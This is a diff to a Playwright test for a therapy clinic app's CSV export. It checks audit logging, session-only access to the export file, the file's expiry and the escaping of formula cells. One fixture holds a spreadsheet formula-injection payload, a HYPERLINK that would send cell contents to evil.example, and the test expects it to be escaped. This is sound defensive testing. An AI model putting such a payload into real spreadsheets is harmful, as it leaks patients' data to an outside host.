@@ -1,6 +1,7 @@
 """The record's export in a real browser: opening the Export tab builds nothing (no audit row, no /media
 URL in the page); pressing the button downloads the history, escaped, with exactly one audit row; the
-file's /media URL, fetched afterwards without the browser's session, is gone. Tables offer no
+file's /media URL is refused at once to a request without the browser's session cookie (server.py), and
+is gone some seconds later even for the browser that pressed (ui/exports.py). Tables offer no
 "Download as CSV" of their own."""
 
 from __future__ import annotations
@@ -24,6 +25,7 @@ from logic.storage import open_storage
 USER, PASSWORD = "thera", "therapist pass 1"
 NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 MEDIA_URL = re.compile(r"(?<!/static)/media/[0-9a-f]")  # Streamlit's media files (its fonts are in /static/media)
+REFUSED = 403  # server.py's answer to a /media request without a valid session (a file gone is 404)
 GONE_WITHIN_S = 60  # the app drops the file 10 s after it was built (ui/exports.py); a loaded machine is slow
 
 
@@ -66,7 +68,7 @@ def fetch_status(url: str) -> int:
         return error.code
 
 
-def test_export_is_built_on_the_press_once_and_its_url_dies(streamlit_server_factory, clinic, page: Page) -> None:
+def test_export_is_built_on_the_press_for_its_session_only(streamlit_server_factory, clinic, page: Page) -> None:
     data, client_id = clinic
     server = streamlit_server_factory({"REAKTIONSGUIDE_DATA_DIR": str(data)})
     media: list[str] = []
@@ -87,6 +89,8 @@ def test_export_is_built_on_the_press_once_and_its_url_dies(streamlit_server_fac
     with page.expect_download(timeout=30_000) as download_info:
         button.click()
     download = download_info.value
+    [url] = set(media)
+    assert fetch_status(url) == REFUSED  # right after the press, while the file is still stored
     text = Path(download.path()).read_bytes().decode("utf-8")
     rows = list(csv.DictReader(io.StringIO(text, newline="")))
     assert [r["note"] for r in rows] == ["Spændt trapezius", "'" + NOTE]
@@ -95,9 +99,8 @@ def test_export_is_built_on_the_press_once_and_its_url_dies(streamlit_server_fac
     settled(page)
     assert len(exports(data)) == 1  # the press reran nothing that exports again
 
-    [url] = set(media)
-    deadline = time.monotonic() + GONE_WITHIN_S
-    while (status := fetch_status(url)) == 200 and time.monotonic() < deadline:
+    deadline = time.monotonic() + GONE_WITHIN_S  # with the browser's own cookie: the file is dropped soon
+    while (status := page.request.get(url).status) == 200 and time.monotonic() < deadline:
         time.sleep(0.5)
     assert status == 404, f"{url} still served after {GONE_WITHIN_S} s"
     assert len(exports(data)) == 1
